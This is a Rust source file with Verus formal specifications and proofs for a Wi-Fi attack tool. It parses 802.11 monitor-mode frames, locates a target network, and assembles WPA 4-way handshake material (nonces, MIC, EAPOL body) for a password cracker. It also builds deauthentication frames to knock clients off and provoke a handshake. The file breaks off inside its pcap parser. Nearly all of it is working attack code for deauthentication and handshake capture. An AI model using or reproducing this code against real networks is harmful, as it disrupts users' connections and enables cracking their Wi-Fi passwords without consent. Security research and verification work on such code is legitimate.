//! The handshake assembler: parses raw 802.11 monitor-mode frames (Radiotap
//! prefix, management and data frames, EAPOL-Key messages), tracks per-client
//! pairing state, and emits complete handshake records. Also builds the
//! deauthentication frames used to provoke a handshake.

use vstd::prelude::*;
use crate::handshake::{Handshake, HandshakeView};
use crate::byteops::constant_time_compare;

verus! {

/// The 16-bit little-endian value at `pos`.
pub open spec fn le16(b: Seq<u8>, pos: int) -> int {
    b[pos] + 256 * b[pos + 1]
}

/// The 16-bit big-endian value at `pos`.
pub open spec fn be16(b: Seq<u8>, pos: int) -> int {
    256 * b[pos] + b[pos + 1]
}

/// The 32-bit little-endian value at `pos`.
pub open spec fn le32(b: Seq<u8>, pos: int) -> int {
    b[pos] + 256 * b[pos + 1] + 65536 * b[pos + 2] + 16777216 * b[pos + 3]
}

/// The 64-bit big-endian value at `pos`.
pub open spec fn be64(b: Seq<u8>, pos: int) -> int {
    b[pos] * 0x100000000000000 + b[pos + 1] * 0x1000000000000 + b[pos + 2] * 0x10000000000 + b[pos
        + 3] * 0x100000000 + b[pos + 4] * 0x1000000 + b[pos + 5] * 0x10000 + b[pos + 6] * 0x100
        + b[pos + 7]
}

/// Reads the 16-bit little-endian value at `pos`.
pub fn read_le16(b: &[u8], pos: usize) -> (r: u16)
    requires
        pos + 2 <= b@.len(),
    ensures
        r == le16(b@, pos as int),
{
    (b[pos] as u16) + 256 * (b[pos + 1] as u16)
}

/// Reads the 16-bit big-endian value at `pos`.
pub fn read_be16(b: &[u8], pos: usize) -> (r: u16)
    requires
        pos + 2 <= b@.len(),
    ensures
        r == be16(b@, pos as int),
{
    256 * (b[pos] as u16) + (b[pos + 1] as u16)
}

/// Reads the 32-bit little-endian value at `pos`.
pub fn read_le32(b: &[u8], pos: usize) -> (r: u32)
    requires
        pos + 4 <= b@.len(),
    ensures
        r == le32(b@, pos as int),
{
    (b[pos] as u32) + 256 * (b[pos + 1] as u32) + 65536 * (b[pos + 2] as u32) + 16777216 * (b[pos
        + 3] as u32)
}

/// Reads the 64-bit big-endian value at `pos`.
pub fn read_be64(b: &[u8], pos: usize) -> (r: u64)
    requires
        pos + 8 <= b@.len(),
    ensures
        r == be64(b@, pos as int),
{
    (b[pos] as u64) * 0x100000000000000 + (b[pos + 1] as u64) * 0x1000000000000 + (b[pos
        + 2] as u64) * 0x10000000000 + (b[pos + 3] as u64) * 0x100000000 + (b[pos + 4] as u64)
        * 0x1000000 + (b[pos + 5] as u64) * 0x10000 + (b[pos + 6] as u64) * 0x100 + (b[pos
        + 7] as u64)
}

/// Walks the tagged parameters of a management frame body from absolute
/// position `i`: true when a tag 0 (SSID) is found whose value equals `ssid`.
pub open spec fn walk_tags(data: Seq<u8>, i: int, ssid: Seq<u8>) -> bool
    decreases data.len() - i
    when 0 <= i
{
    if i + 2 > data.len() {
        false
    } else {
        let l = data[i + 1] as int;
        if i + 2 + l > data.len() {
            false
        } else if data[i] == 0 {
            data.subrange(i + 2, i + 2 + l) == ssid
        } else {
            walk_tags(data, i + 2 + l, ssid)
        }
    }
}

/// BSSID discovery, exactly as the capture loop applies it: a frame of at
/// least 50 bytes whose Radiotap prefix is skipped by its embedded length,
/// that is a Beacon (management subtype 8) or Probe Response (subtype 5), and
/// whose tagged parameters carry an SSID tag equal to `ssid`, yields the
/// 6-byte BSSID from Address 3.
pub open spec fn spec_parse_bssid(data: Seq<u8>, ssid: Seq<u8>) -> Option<Seq<u8>> {
    if data.len() < 50 {
        None
    } else {
        let rt = le16(data, 2);
        if data.len() < rt + 24 {
            None
        } else {
            let fc = data[rt];
            if (fc >> 2) & 3 != 0 {
                None
            } else if (fc >> 4) & 0xf != 8 && (fc >> 4) & 0xf != 5 {
                None
            } else if data.len() < rt + 36 {
                None
            } else if walk_tags(data, rt + 36, ssid) {
                Some(data.subrange(rt + 16, rt + 22))
            } else {
                None
            }
        }
    }
}

/// Scans a Beacon or Probe Response for the target SSID and returns the
/// BSSID when it matches.
pub fn parse_bssid_from_packet(data: &[u8], target_ssid: &[u8]) -> (r: Option<Vec<u8>>)
    ensures
        match r {
            Some(v) => spec_parse_bssid(data@, target_ssid@) == Some(v@) && v@.len() == 6,
            None => spec_parse_bssid(data@, target_ssid@) is None,
        },
{
    if data.len() < 50 {
        return None;
    }
    let rt = read_le16(data, 2) as usize;
    if data.len() < 24 || data.len() - 24 < rt {
        return None;
    }
    let fc = data[rt];
    if (fc >> 2) & 3 != 0 {
        return None;
    }
    let subtype = (fc >> 4) & 0xf;
    if subtype != 8 && subtype != 5 {
        return None;
    }
    if data.len() - 24 - 12 < rt {
        return None;
    }
    let mut i: usize = rt + 36;
    loop
        invariant
            rt == le16(data@, 2),
            data@.len() >= 50,
            data@.len() >= rt + 36,
            (data@[rt as int] >> 2) & 3 == 0,
            (data@[rt as int] >> 4) & 0xf == 8 || (data@[rt as int] >> 4) & 0xf == 5,
            rt + 36 <= i <= data@.len(),
            walk_tags(data@, rt + 36, target_ssid@) == walk_tags(data@, i as int, target_ssid@),
        decreases data@.len() - i,
    {
        if i >= data.len() || data.len() - i < 2 {
            return None;
        }
        let l = data[i + 1] as usize;
        if data.len() - i - 2 < l {
            return None;
        }
        if data[i] == 0 {
            let val = crate::byteops::sub_bytes(data, i + 2, i + 2 + l);
            if constant_time_compare(val.as_slice(), target_ssid) {
                let bssid = crate::byteops::sub_bytes(data, rt + 16, rt + 22);
                return Some(bssid);
            } else {
                return None;
            }
        }
        i = i + 2 + l;
    }
}

/// One parsed EAPOL-Key message: who sent it to whom, its classification in
/// the 4-way exchange, and the material the cracker needs.
pub struct EapolMessage {
    /// 1 to 4: M1 to M4 of the exchange.
    pub message_type: u8,
    /// The AP's MAC address, 6 bytes.
    pub ap_mac: Vec<u8>,
    /// The client's MAC address, 6 bytes.
    pub client_mac: Vec<u8>,
    /// The 32-byte key nonce (ANonce in M1, SNonce in M2).
    pub nonce: Vec<u8>,
    /// The 64-bit replay counter linking request and response.
    pub replay_counter: u64,
    /// The 16-byte key MIC field (zeros in M1).
    pub mic: Vec<u8>,
    /// The key descriptor version from the key-information field.
    pub key_version: u8,
    /// The raw EAPOL body over which the MIC is computed, its MIC bytes
    /// overwritten by zeros.
    pub eapol_zeroed: Vec<u8>,
}

/// The mathematical content of a parsed EAPOL-Key message.
#[verifier::ext_equal]
pub ghost struct EapolView {
    pub message_type: u8,
    pub ap_mac: Seq<u8>,
    pub client_mac: Seq<u8>,
    pub nonce: Seq<u8>,
    pub replay_counter: u64,
    pub mic: Seq<u8>,
    pub key_version: u8,
    pub eapol_zeroed: Seq<u8>,
}

impl View for EapolMessage {
    type V = EapolView;

    open spec fn view(&self) -> EapolView {
        EapolView {
            message_type: self.message_type,
            ap_mac: self.ap_mac@,
            client_mac: self.client_mac@,
            nonce: self.nonce@,
            replay_counter: self.replay_counter,
            mic: self.mic@,
            key_version: self.key_version,
            eapol_zeroed: self.eapol_zeroed@,
        }
    }
}

/// The EAPOL body `fr` with its MIC field (bytes 81 to 96) zeroed.
pub open spec fn zero_mic(fr: Seq<u8>) -> Seq<u8> {
    Seq::new(
        fr.len(),
        |i: int|
            if 81 <= i < 97 {
                0u8
            } else {
                fr[i]
            },
    )
}

/// Classifies the flag combination of a key-information field: M1 has ACK
/// and no MIC; M2 has MIC, no ACK, no Install and key data; M3 has ACK, MIC
/// and Install; M4 has MIC, no ACK, no Install and empty key data.
pub open spec fn classify_key_info(key_info: int, key_data_len: int) -> Option<u8> {
    let ack = key_info % 256 >= 128;
    let mic_set = (key_info / 256) % 2 == 1;
    let install = (key_info / 64) % 2 == 1;
    if ack && !mic_set {
        Some(1u8)
    } else if ack && mic_set && install {
        Some(3u8)
    } else if mic_set && !ack && !install {
        if key_data_len > 0 {
            Some(2u8)
        } else {
            Some(4u8)
        }
    } else {
        None
    }
}

/// EAPOL extraction, applied to one raw monitor-mode frame: skip the
/// Radiotap prefix, accept a data frame (QoS or plain), demand the LLC/SNAP
/// header with EtherType 0x888E and an EAPOL-Key packet, and read out the
/// descriptor. The AP is the transmitter when From-DS is set, else the
/// receiver. The body for MIC computation runs to the end of the key data
/// and has its MIC bytes zeroed.
pub open spec fn spec_parse_eapol(data: Seq<u8>) -> Option<EapolView> {
    if data.len() < 4 {
        None
    } else {
        let rt = le16(data, 2);
        if data.len() < rt + 24 {
            None
        } else {
            let fc = data[rt];
            if (fc >> 2) & 3 != 2 {
                None
            } else {
                let hdr = if (fc >> 4) & 8 == 8 {
                    26int
                } else {
                    24int
                };
                let p = rt + hdr;
                if data.len() < p + 8 {
                    None
                } else if !(data[p] == 0xaa && data[p + 1] == 0xaa && data[p + 2] == 0x03 && data[p
                    + 3] == 0x00 && data[p + 4] == 0x00 && data[p + 5] == 0x00 && data[p + 6]
                    == 0x88 && data[p + 7] == 0x8e) {
                    None
                } else {
                    let e = p + 8;
                    if data.len() < e + 99 {
                        None
                    } else if data[e + 1] != 3 {
                        None
                    } else {
                        let key_info = be16(data, e + 5);
                        let kdl = be16(data, e + 97);
                        if data.len() < e + 99 + kdl {
                            None
                        } else {
                            match classify_key_info(key_info, kdl) {
                                None => None,
                                Some(mt) => {
                                    let from_ds = data[rt + 1] & 2 == 2;
                                    let addr1 = data.subrange(rt + 4, rt + 10);
                                    let addr2 = data.subrange(rt + 10, rt + 16);
                                    let ap = if from_ds {
                                        addr2
                                    } else {
                                        addr1
                                    };
                                    let client = if from_ds {
                                        addr1
                                    } else {
                                        addr2
                                    };
                                    Some(
                                        EapolView {
                                            message_type: mt,
                                            ap_mac: ap,
                                            client_mac: client,
                                            nonce: data.subrange(e + 17, e + 49),
                                            replay_counter: be64(data, e + 9) as u64,
                                            mic: data.subrange(e + 81, e + 97),
                                            key_version: (key_info % 8) as u8,
                                            eapol_zeroed: zero_mic(
                                                data.subrange(e, e + 99 + kdl),
                                            ),
                                        },
                                    )
                                },
                            }
                        }
                    }
                }
            }
        }
    }
}

/// Extracts and classifies an EAPOL-Key message from one raw frame.
pub fn extract_eapol_from_packet(data: &[u8]) -> (r: Option<EapolMessage>)
    ensures
        match r {
            Some(m) => spec_parse_eapol(data@) == Some(m@) && m@.ap_mac.len() == 6
                && m@.client_mac.len() == 6 && m@.nonce.len() == 32 && m@.mic.len() == 16
                && m@.eapol_zeroed.len() >= 99 && 1 <= m@.message_type <= 4 && m@.key_version < 8,
            None => spec_parse_eapol(data@) is None,
        },
{
    if data.len() < 4 {
        return None;
    }
    let rt = read_le16(data, 2) as usize;
    if data.len() < 24 || data.len() - 24 < rt {
        return None;
    }
    let fc = data[rt];
    if (fc >> 2) & 3 != 2 {
        return None;
    }
    let hdr: usize = if (fc >> 4) & 8 == 8 {
        26
    } else {
        24
    };
    let p = rt + hdr;
    if data.len() < 8 || data.len() - 8 < p {
        return None;
    }
    if !(data[p] == 0xaa && data[p + 1] == 0xaa && data[p + 2] == 0x03 && data[p + 3] == 0x00
        && data[p + 4] == 0x00 && data[p + 5] == 0x00 && data[p + 6] == 0x88 && data[p + 7]
        == 0x8e) {
        return None;
    }
    let e = p + 8;
    if data.len() - e < 99 {
        return None;
    }
    if data[e + 1] != 3 {
        return None;
    }
    let key_info = read_be16(data, e + 5);
    let kdl = read_be16(data, e + 97) as usize;
    if data.len() - e - 99 < kdl {
        return None;
    }
    let ack = key_info % 256 >= 128;
    let mic_set = (key_info / 256) % 2 == 1;
    let install = (key_info / 64) % 2 == 1;
    let message_type: u8 = if ack && !mic_set {
        1
    } else if ack && mic_set && install {
        3
    } else if mic_set && !ack && !install {
        if kdl > 0 {
            2
        } else {
            4
        }
    } else {
        return None;
    };
    let from_ds = data[rt + 1] & 2 == 2;
    let addr1 = crate::byteops::sub_bytes(data, rt + 4, rt + 10);
    let addr2 = crate::byteops::sub_bytes(data, rt + 10, rt + 16);
    let (ap_mac, client_mac) = if from_ds {
        (addr2, addr1)
    } else {
        (addr1, addr2)
    };
    let nonce = crate::byteops::sub_bytes(data, e + 17, e + 49);
    let replay_counter = read_be64(data, e + 9);
    let mic = crate::byteops::sub_bytes(data, e + 81, e + 97);
    let key_version = (key_info % 8) as u8;
    let body = crate::byteops::sub_bytes(data, e, e + 99 + kdl);
    let mut eapol_zeroed: Vec<u8> = Vec::new();
    let mut i: usize = 0;
    let body_len = body.len();
    while i < body_len
        invariant
            i <= body_len,
            body_len == body@.len(),
            eapol_zeroed@.len() == i,
            forall|j: int|
                0 <= j < i ==> eapol_zeroed@[j] == (if 81 <= j < 97 {
                    0u8
                } else {
                    body@[j]
                }),
        decreases body_len - i,
    {
        if 81 <= i && i < 97 {
            eapol_zeroed.push(0);
        } else {
            eapol_zeroed.push(body[i]);
        }
        i = i + 1;
    }
    assert(eapol_zeroed@ =~= zero_mic(body@));
    Some(
        EapolMessage {
            message_type,
            ap_mac,
            client_mac,
            nonce,
            replay_counter,
            mic,
            key_version,
            eapol_zeroed,
        },
    )
}

/// A received deauthentication frame (management subtype 12) addressed to a
/// client: its Address 1.
pub open spec fn spec_parse_deauth(data: Seq<u8>) -> Option<Seq<u8>> {
    if data.len() < 4 {
        None
    } else {
        let rt = le16(data, 2);
        if data.len() < rt + 24 {
            None
        } else {
            let fc = data[rt];
            if (fc >> 2) & 3 == 0 && (fc >> 4) & 0xf == 12 {
                Some(data.subrange(rt + 4, rt + 10))
            } else {
                None
            }
        }
    }
}

/// Recognises a deauthentication frame and returns its target address.
pub fn parse_deauth_from_packet(data: &[u8]) -> (r: Option<Vec<u8>>)
    ensures
        match r {
            Some(v) => spec_parse_deauth(data@) == Some(v@) && v@.len() == 6,
            None => spec_parse_deauth(data@) is None,
        },
{
    if data.len() < 4 {
        return None;
    }
    let rt = read_le16(data, 2) as usize;
    if data.len() < 24 || data.len() - 24 < rt {
        return None;
    }
    let fc = data[rt];
    if (fc >> 2) & 3 == 0 && (fc >> 4) & 0xf == 12 {
        Some(crate::byteops::sub_bytes(data, rt + 4, rt + 10))
    } else {
        None
    }
}

/// The injected deauthentication frame: a minimal 8-byte Radiotap header,
/// then the 802.11 deauthentication management frame from `bssid` to
/// `target` with reason code 7.
pub open spec fn spec_deauth_frame(bssid: Seq<u8>, target: Seq<u8>) -> Seq<u8> {
    seq![0x00u8, 0x00u8, 0x08u8, 0x00u8, 0x00u8, 0x00u8, 0x00u8, 0x00u8] + seq![
        0xc0u8, 0x00u8, 0x00u8, 0x01u8,
    ] + target + bssid + bssid + seq![0x00u8, 0x00u8, 0x07u8, 0x00u8]
}

/// Builds the deauthentication frame to inject for one target (unicast or
/// broadcast).
pub fn build_deauth_frame(bssid: &[u8], target: &[u8]) -> (r: Vec<u8>)
    requires
        bssid@.len() == 6,
        target@.len() == 6,
    ensures
        r@ == spec_deauth_frame(bssid@, target@),
        r@.len() == 34,
{
    let mut r: Vec<u8> = Vec::new();
    r.push(0x00);
    r.push(0x00);
    r.push(0x08);
    r.push(0x00);
    r.push(0x00);
    r.push(0x00);
    r.push(0x00);
    r.push(0x00);
    r.push(0xc0);
    r.push(0x00);
    r.push(0x00);
    r.push(0x01);
    r.extend_from_slice(target);
    r.extend_from_slice(bssid);
    r.extend_from_slice(bssid);
    r.push(0x00);
    r.push(0x00);
    r.push(0x07);
    r.push(0x00);
    assert(r@ =~= spec_deauth_frame(bssid@, target@));
    r
}

/// A client the assembler has seen an M1 for: its recorded ANonce and
/// replay counter.
pub struct PendingM1 {
    /// The client's MAC address, 6 bytes.
    pub client: Vec<u8>,
    /// The ANonce the AP sent in M1, 32 bytes.
    pub anonce: Vec<u8>,
    /// The replay counter of that M1.
    pub replay_counter: u64,
}

/// The mathematical content of a pending M1 entry.
#[verifier::ext_equal]
pub ghost struct PendingView {
    pub client: Seq<u8>,
    pub anonce: Seq<u8>,
    pub replay_counter: u64,
}

impl View for PendingM1 {
    type V = PendingView;

    open spec fn view(&self) -> PendingView {
        PendingView { client: self.client@, anonce: self.anonce@, replay_counter: self.replay_counter }
    }
}

/// The views of a table of pending entries, element by element.
pub open spec fn pending_views(p: Seq<PendingM1>) -> Seq<PendingView> {
    Seq::new(p.len(), |i: int| p[i]@)
}

/// The first pending entry of a client at or after index `i`.
pub open spec fn find_pending_from(p: Seq<PendingView>, i: int, client: Seq<u8>) -> Option<int>
    decreases p.len() - i
    when 0 <= i <= p.len()
{
    if i >= p.len() {
        None
    } else if p[i].client == client {
        Some(i)
    } else {
        find_pending_from(p, i + 1, client)
    }
}

/// The index of a client's pending entry, if one exists.
pub open spec fn find_pending(p: Seq<PendingView>, client: Seq<u8>) -> Option<int> {
    find_pending_from(p, 0, client)
}

/// Recording an M1: overwrite the client's entry, or add one.
pub open spec fn m1_insert(p: Seq<PendingView>, m: EapolView) -> Seq<PendingView> {
    let e = PendingView {
        client: m.client_mac,
        anonce: m.nonce,
        replay_counter: m.replay_counter,
    };
    match find_pending(p, m.client_mac) {
        Some(i) => p.update(i, e),
        None => p.push(e),
    }
}

/// A received deauthentication returns the client to the idle state: its
/// entry, if any, is dropped.
pub open spec fn remove_client(p: Seq<PendingView>, client: Seq<u8>) -> Seq<PendingView> {
    match find_pending(p, client) {
        Some(i) => p.remove(i),
        None => p,
    }
}

/// An M2 finalises a pairing when its replay counter echoes the recorded M1
/// counter or its successor.
pub open spec fn replay_matches(recorded: u64, got: u64) -> bool {
    recorded == got || recorded + 1 == got
}

/// The mathematical content of the assembler state.
#[verifier::ext_equal]
pub ghost struct AssemblerView {
    pub target_ssid: Seq<u8>,
    pub bssid: Option<Seq<u8>>,
    pub pending: Seq<PendingView>,
}

impl AssemblerView {
    /// The state invariants: a plausible SSID, a 6-byte BSSID once pinned,
    /// well-formed entries, and one entry per client.
    pub open spec fn wf(self) -> bool {
        &&& 1 <= self.target_ssid.len() <= 32
        &&& (self.bssid matches Some(b) ==> b.len() == 6)
        &&& forall|i: int|
            0 <= i < self.pending.len() ==> (#[trigger] self.pending[i]).client.len() == 6
                && self.pending[i].anonce.len() == 32
        &&& forall|i: int, j: int|
            0 <= i < j < self.pending.len() ==> self.pending[i].client != self.pending[j].client
    }
}

/// Tracks per-client pairing state over a stream of raw frames and emits a
/// handshake record when an M1/M2 pair completes.
pub struct Assembler {
    /// The SSID the session is after (also the salt of the emitted record).
    pub target_ssid: Vec<u8>,
    /// The AP's MAC address, once discovered from a Beacon or Probe
    /// Response.
    pub bssid: Option<Vec<u8>>,
    /// One entry per client that has an M1 outstanding.
    pub pending: Vec<PendingM1>,
}

impl View for Assembler {
    type V = AssemblerView;

    open spec fn view(&self) -> AssemblerView {
        AssemblerView {
            target_ssid: self.target_ssid@,
            bssid: match self.bssid {
                Some(b) => Some(b@),
                None => None,
            },
            pending: pending_views(self.pending@),
        }
    }
}

/// One step of the assembler: what a frame does to the state, and the
/// handshake record it completes, if any. An EAPOL-Key frame from a foreign
/// AP is ignored once a BSSID is pinned; an M1 records or overwrites the
/// client's ANonce; an M2 with a matching replay counter and a known key
/// version finalises the record and retires the entry; a Beacon or Probe
/// Response carrying the target SSID pins the BSSID; a deauthentication
/// frame returns its addressee to the idle state; everything else is
/// dropped.
pub open spec fn spec_step(s: AssemblerView, frame: Seq<u8>) -> (AssemblerView, Option<
    HandshakeView,
>) {
    match spec_parse_eapol(frame) {
        Some(m) => {
            let foreign = match s.bssid {
                Some(b) => m.ap_mac != b,
                None => false,
            };
            if foreign {
                (s, None)
            } else if m.message_type == 1 {
                (
                    AssemblerView {
                        target_ssid: s.target_ssid,
                        bssid: s.bssid,
                        pending: m1_insert(s.pending, m),
                    },
                    None,
                )
            } else if m.message_type == 2 && 1 <= m.key_version <= 3 {
                match find_pending(s.pending, m.client_mac) {
                    Some(i) => if replay_matches(s.pending[i].replay_counter, m.replay_counter) {
                        (
                            AssemblerView {
                                target_ssid: s.target_ssid,
                                bssid: s.bssid,
                                pending: s.pending.remove(i),
                            },
                            Some(
                                HandshakeView {
                                    ssid: s.target_ssid,
                                    ap_mac: m.ap_mac,
                                    client_mac: m.client_mac,
                                    anonce: s.pending[i].anonce,
                                    snonce: m.nonce,
                                    mic: m.mic,
                                    eapol_frame: m.eapol_zeroed,
                                    key_version: m.key_version,
                                },
                            ),
                        )
                    } else {
                        (s, None)
                    },
                    None => (s, None),
                }
            } else {
                (s, None)
            }
        },
        None => match spec_parse_bssid(frame, s.target_ssid) {
            Some(b) => if s.bssid is None {
                (AssemblerView { target_ssid: s.target_ssid, bssid: Some(b), pending: s.pending },
                None)
            } else {
                (s, None)
            },
            None => match spec_parse_deauth(frame) {
                Some(client) => (
                    AssemblerView {
                        target_ssid: s.target_ssid,
                        bssid: s.bssid,
                        pending: remove_client(s.pending, client),
                    },
                    None,
                ),
                None => (s, None),
            },
        },
    }
}

/// Finds a client's pending entry.
fn find_client(p: &Vec<PendingM1>, client: &[u8]) -> (r: Option<usize>)
    ensures
        match r {
            Some(i) => find_pending(pending_views(p@), client@) == Some(i as int) && i < p@.len(),
            None => find_pending(pending_views(p@), client@) is None,
        },
{
    let ghost pv = pending_views(p@);
    let mut i: usize = 0;
    while i < p.len()
        invariant
            i <= p@.len(),
            pv == pending_views(p@),
            pv.len() == p@.len(),
            find_pending_from(pv, 0, client@) == find_pending_from(pv, i as int, client@),
        decreases p@.len() - i,
    {
        if constant_time_compare(p[i].client.as_slice(), client) {
            return Some(i);
        }
        i = i + 1;
    }
    None
}

impl Assembler {
    /// Starts a capture session after the given SSID.
    pub fn new(target_ssid: Vec<u8>) -> (r: Assembler)
        requires
            1 <= target_ssid@.len() <= 32,
        ensures
            r@.target_ssid == target_ssid@,
            r@.bssid is None,
            r@.pending == Seq::<PendingView>::empty(),
            r@.wf(),
    {
        let r = Assembler { target_ssid, bssid: None, pending: Vec::new() };
        proof {
            assert(r@.pending =~= Seq::<PendingView>::empty());
        }
        r
    }

    /// Feeds one raw frame into the session and returns the handshake it
    /// completes, if any. The new state and the result are exactly one
    /// `spec_step` of the old state.
    pub fn on_frame(&mut self, data: &[u8]) -> (r: Option<Handshake>)
        requires
            old(self)@.wf(),
        ensures
            final(self)@ == spec_step(old(self)@, data@).0,
            final(self)@.wf(),
            match (r, spec_step(old(self)@, data@).1) {
                (Some(h), Some(hv)) => h@ == hv && h.valid(),
                (None, None) => true,
                _ => false,
            },
    {
        let ghost s0 = self@;
        match extract_eapol_from_packet(data) {
            Some(m) => {
                let foreign = match &self.bssid {
                    Some(b) => !constant_time_compare(b.as_slice(), m.ap_mac.as_slice()),
                    None => false,
                };
                if foreign {
                    return None;
                }
                if m.message_type == 1 {
                    let entry = PendingM1 {
                        client: m.client_mac,
                        anonce: m.nonce,
                        replay_counter: m.replay_counter,
                    };
                    let found = find_client(&self.pending, entry.client.as_slice());
                    match found {
                        Some(i) => {
                            self.pending.set(i, entry);
                        },
                        None => {
                            self.pending.push(entry);
                        },
                    }
                    proof {
                        lemma_find_pending_properties(s0.pending, spec_parse_eapol(
                            data@,
                        ).unwrap().client_mac);
                        assert(self@.pending =~= m1_insert(s0.pending, spec_parse_eapol(
                            data@,
                        ).unwrap()));
                        lemma_m1_insert_wf(s0, spec_parse_eapol(data@).unwrap());
                    }
                    None
                } else if m.message_type == 2 && 1 <= m.key_version && m.key_version <= 3 {
                    let found = find_client(&self.pending, m.client_mac.as_slice());
                    match found {
                        Some(i) => {
                            let rc = self.pending[i].replay_counter;
                            if m.replay_counter == rc || (m.replay_counter > rc && m.replay_counter
                                - rc == 1) {
                                let entry = self.pending.remove(i);
                                let ssid = crate::byteops::sub_bytes(
                                    self.target_ssid.as_slice(),
                                    0,
                                    self.target_ssid.len(),
                                );
                                let h = Handshake {
                                    ssid,
                                    ap_mac: m.ap_mac,
                                    client_mac: m.client_mac,
                                    anonce: entry.anonce,
                                    snonce: m.nonce,
                                    mic: m.mic,
                                    eapol_frame: m.eapol_zeroed,
                                    key_version: m.key_version,
                                };
                                proof {
                                    assert(self@.pending =~= s0.pending.remove(i as int));
                                    lemma_find_pending_properties(s0.pending, spec_parse_eapol(
                                        data@,
                                    ).unwrap().client_mac);
                                    lemma_remove_keeps_wf(s0, i as int);
                                    assert(h.ssid@ =~= s0.target_ssid);
                                    assert(entry@ == s0.pending[i as int]);
                                }
                                Some(h)
                            } else {
                                None
                            }
                        },
                        None => None,
                    }
                } else {
                    None
                }
            },
            None => {
                match parse_bssid_from_packet(data, self.target_ssid.as_slice()) {
                    Some(b) => {
                        if self.bssid.is_none() {
                            self.bssid = Some(b);
                        }
                        None
                    },
                    None => {
                        match parse_deauth_from_packet(data) {
                            Some(client) => {
                                let found = find_client(&self.pending, client.as_slice());
                                match found {
                                    Some(i) => {
                                        self.pending.remove(i);
                                        proof {
                                            assert(self@.pending =~= s0.pending.remove(i as int));
                                            lemma_remove_keeps_wf(s0, i as int);
                                        }
                                    },
                                    None => {},
                                }
                                None
                            },
                            None => None,
                        }
                    },
                }
            },
        }
    }
}

/// The state a capture session starts in: no BSSID pinned, no client seen.
pub open spec fn initial_assembler(ssid: Seq<u8>) -> AssemblerView {
    AssemblerView { target_ssid: ssid, bssid: None, pending: Seq::empty() }
}

/// The record a frame stream produces: the output of the first step that
/// completes one, with state threaded through the steps in order.
pub open spec fn spec_assemble(s: AssemblerView, frames: Seq<Seq<u8>>) -> Option<HandshakeView>
    decreases frames.len(),
{
    if frames.len() == 0 {
        None
    } else if spec_step(s, frames[0]).1 is Some {
        spec_step(s, frames[0]).1
    } else {
        spec_assemble(spec_step(s, frames[0]).0, frames.skip(1))
    }
}

/// Why no handshake record came out of a capture.
#[derive(Clone, Copy, PartialEq, Eq, Structural, Debug)]
pub enum AssembleError {
    /// The target SSID violates its bounds, or the capture container is
    /// malformed.
    InvalidInput,
    /// The frames ran out before any pairing completed.
    NoHandshake,
}

/// Runs a whole frame stream through a fresh session and returns the first
/// completed handshake record, or `NoHandshake` when the stream ends first.
pub fn assemble_from_frames(target_ssid: &[u8], frames: &Vec<Vec<u8>>) -> (r: Result<
    Handshake,
    AssembleError,
>)
    ensures
        match r {
            Result::Ok(h) => 1 <= target_ssid@.len() <= 32 && spec_assemble(
                initial_assembler(target_ssid@),
                frames.deep_view(),
            ) == Some(h@) && h.valid(),
            Result::Err(e) => if e == AssembleError::InvalidInput {
                !(1 <= target_ssid@.len() <= 32)
            } else {
                1 <= target_ssid@.len() <= 32 && spec_assemble(
                    initial_assembler(target_ssid@),
                    frames.deep_view(),
                ) is None
            },
        },
{
    if target_ssid.len() < 1 || target_ssid.len() > 32 {
        return Result::Err(AssembleError::InvalidInput);
    }
    let ssid = crate::byteops::sub_bytes(target_ssid, 0, target_ssid.len());
    assert(ssid@ =~= target_ssid@);
    let mut session = Assembler::new(ssid);
    let ghost fv = frames.deep_view();
    let ghost init = initial_assembler(target_ssid@);
    proof {
        assert(session@ =~= init);
        assert(fv.skip(0) =~= fv);
        assert(fv.len() == frames@.len());
    }
    let mut i: usize = 0;
    while i < frames.len()
        invariant
            i <= frames@.len(),
            1 <= target_ssid@.len() <= 32,
            init == initial_assembler(target_ssid@),
            fv == frames.deep_view(),
            fv.len() == frames@.len(),
            session@.wf(),
            spec_assemble(init, fv) == spec_assemble(session@, fv.skip(i as int)),
        decreases frames@.len() - i,
    {
        let ghost s_pre = session@;
        let fslice = frames[i].as_slice();
        let out = session.on_frame(fslice);
        proof {
            crate::generator::lemma_deep_view_at(*frames, i as int);
            assert(fv.skip(i as int)[0] == fv[i as int]);
            assert(fslice@ == fv.skip(i as int)[0]);
            assert(fv.skip(i as int).skip(1) =~= fv.skip(i + 1));
        }
        match out {
            Some(h) => {
                proof {
                    assert(fslice@ == fv.skip(i as int)[0]);
                    assert(spec_step(s_pre, fslice@).1 == Some(h@));
                    assert(spec_assemble(s_pre, fv.skip(i as int)) == spec_step(
                        s_pre,
                        fv.skip(i as int)[0],
                    ).1);
                    assert(spec_assemble(init, fv) == Some(h@));
                    assert(h.valid());
                }
                return Result::Ok(h);
            },
            None => {
                proof {
                    assert(spec_assemble(s_pre, fv.skip(i as int)) == spec_assemble(
                        spec_step(s_pre, fv.skip(i as int)[0]).0,
                        fv.skip(i as int).skip(1),
                    ));
                }
            },
        }
        i = i + 1;
    }
    proof {
        assert(fv.skip(frames@.len() as int) =~= Seq::<Seq<u8>>::empty());
    }
    Result::Err(AssembleError::NoHandshake)
}

/// The packet records of a pcap capture from absolute position `pos`: each
/// record is a 16-byte header whose included length (little-endian, at
/// offset 8) gives the frame bytes that follow.
pub open spec fn spec_cap_frames(data: Seq<u8>, pos: int) -> Option<Seq<Seq<u8>>>
    decreases data.len() - pos
    when 0 <= pos <= data.len()
{
    if pos == data.len() {
        Some(Seq::empty())
    } else if pos + 16 <= data.len() {
        let incl = le32(data, pos + 8);
        if pos + 16 + incl <= data.len() {
            match spec_cap_frames(data, pos + 16 + incl) {
                Some(rest) => Some(seq![data.subrange(pos + 16, pos + 16 + incl)] + rest),
                None => None,
            }
        } else {
            None
        }
    } else {
        None
    }
}

/// The frames of a classic little-endian pcap file: the 24-byte global
/// header with magic d4 c3 b2 a1, then the packet records.
pub open spec fn spec_parse_cap(data: Seq<u8>) -> Option<Seq<Seq<u8>>> {
    if data.len() >= 24 && data[0] == 0xd4 && data[1] == 0xc3 && data[2] == 0xb2 && data[3] == 0xa1 {
        spec_cap_frames(data, 24)
    } else {
        None
    }
}

/// Splits a pcap capture into its raw frames.
fn cap_frames(data: &[u8]) -> (r: Option<Vec<Vec<u8>>>)
    ensures
        match r {
            Some(v) => spec_parse_cap(data@) == Some(v.deep_view()),
            None => spec_parse_cap(data@) is None,
        },
{
    if data.len() < 24 || data[0] != 0xd4 || data[1] != 0xc3 || data[2] != 0xb2 || data[3] != 0xa1 {
        return None;
    }
    let mut acc: Vec<Vec<u8>> = Vec::new();
    let mut p: usize = 24;
    proof {
        assert(acc.deep_view() =~= Seq::<Seq<u8>>::empty());
    }
    loop
